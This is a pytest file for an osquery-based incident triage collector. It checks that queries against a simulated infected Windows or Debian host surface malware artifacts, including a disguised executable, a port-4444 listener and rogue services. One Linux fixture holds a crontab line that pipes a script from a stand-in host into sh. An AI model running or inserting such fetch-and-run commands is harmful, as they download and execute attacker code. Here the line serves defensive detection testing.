"""The triage snapshot through osquery: the real osquery-python client against
the stand-in with the triage tables' real schemas and a machine with malware
on it; each query capped at its row limit; a table an old agent lacks is an
error of that query only."""
from __future__ import annotations

import dataclasses

import pytest

from collector.osquery_client import OsqueryClient
from collector.sources.osquery_source import OsquerySource
from collector.triage.interface import TriageRun
from collector.triage.osquery_triage import OsqueryTriage, capped_sql
from queries.loader import load_triage_queries

TEMP = r"C:\Users\ketoan\AppData\Local\Temp"
UPDATER = TEMP + r"\updater.exe"


def run(osquery_standin, scenario: str, platform: str, **options: object) -> TriageRun:  # type: ignore[no-untyped-def]
    socket_path = osquery_standin(scenario, triage=True, **options)
    return OsqueryTriage(OsquerySource(socket_path=socket_path), platform).run()


def by_name(result: TriageRun) -> dict[str, tuple[list[str], list[list[str]]]]:
    return {r.name: (r.columns, r.rows) for r in result.results}


def test_windows_triage_finds_the_dropper_everywhere_it_hides(osquery_standin) -> None:  # type: ignore[no-untyped-def]
    result = run(osquery_standin, "windows", "windows")
    assert [r.name for r in result.results] == [
        "listening_ports", "recent_executables_windows", "remote_connections", "scheduled_tasks", "services",
        "startup_items", "unsigned_binaries"]
    assert all(not r.error and not r.truncated for r in result.results) and result.skipped == []
    found = by_name(result)
    # loopback and unspecified peers are left out; the columns keep the query's order
    assert found["remote_connections"] == (
        ["pid", "name", "path", "cmdline", "local_address", "local_port", "remote_address", "remote_port",
         "protocol", "state"],
        [["2288", "chrome.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe",
          r'"C:\Program Files\Google\Chrome\Application\chrome.exe"', "10.20.30.41", "50512", "142.250.66.78", "443",
          "6", "ESTABLISHED"],
         ["6120", "updater.exe", UPDATER, UPDATER + " /silent", "10.20.30.41", "50777", "203.0.113.66", "8080", "6",
          "ESTABLISHED"]])
    assert [row[3:5] for row in found["listening_ports"][1]] == [["0.0.0.0", "135"], ["0.0.0.0", "445"],
                                                                ["0.0.0.0", "4444"]]
    assert [row[0] for row in found["recent_executables_windows"][1]] == [
        UPDATER, r"C:\Users\ketoan\Downloads\hoadon.pdf.exe"]  # not the .docx, the old one, nor System32
    assert [row[0] for row in found["scheduled_tasks"][1]] == ["GoogleUpdateTaskMachineCore", "SysUpd"]
    assert [row[0] for row in found["services"][1]] == ["Spooler", "WinUpdSvc"]
    assert [(row[2], row[4]) for row in found["unsigned_binaries"][1]] == [
        (r"C:\Program Files\osquery\osqueryd\osqueryd.exe", "distrust"), (UPDATER, "missing")]


def test_linux_triage_reads_cron_systemd_and_recent_executables(osquery_standin) -> None:  # type: ignore[no-untyped-def]
    found = by_name(run(osquery_standin, "debian", "linux"))
    assert set(found) == {"crontab", "listening_ports", "recent_executables", "remote_connections", "startup_items",
                          "systemd_units"}
    assert [row[6] for row in found["crontab"][1]][-1] == "curl -s http://203.0.113.66/k.sh | sh"
    assert [row[0] for row in found["systemd_units"][1]] == ["kworkerd.service", "ssh.service"]
    assert [row[0] for row in found["recent_executables"][1]] == ["/tmp/.x/kworkerd"]  # 0644 and old files left out
    assert [row[6] for row in found["remote_connections"][1]] == ["198.51.100.77", "::ffff:203.0.113.66"]


def test_a_table_the_agent_lacks_is_that_query_s_error(osquery_standin) -> None:  # type: ignore[no-untyped-def]
    found = {r.name: r for r in run(osquery_standin, "windows", "windows", hide_tables=["authenticode"]).results}
    assert found["unsigned_binaries"].error == "no such table: authenticode"
    assert found["unsigned_binaries"].rows == [] and len(found["services"].rows) == 2


@pytest.mark.parametrize(("limit", "rows", "truncated"), [(2, 2, True), (3, 3, False)])
def test_each_query_stops_at_its_limit_and_says_so(osquery_standin, limit: int, rows: int,  # type: ignore[no-untyped-def]
                                                  truncated: bool) -> None:
    query = dataclasses.replace({q.name: q for q in load_triage_queries()}["listening_ports"], limit=limit)
    assert capped_sql(query, limit).endswith(f"LIMIT {limit + 1};")
    with OsqueryClient.connect(osquery_standin("windows", triage=True)) as client:
        result = OsqueryTriage._run(client, query)
    assert (len(result.rows), result.truncated) == (rows, truncated)
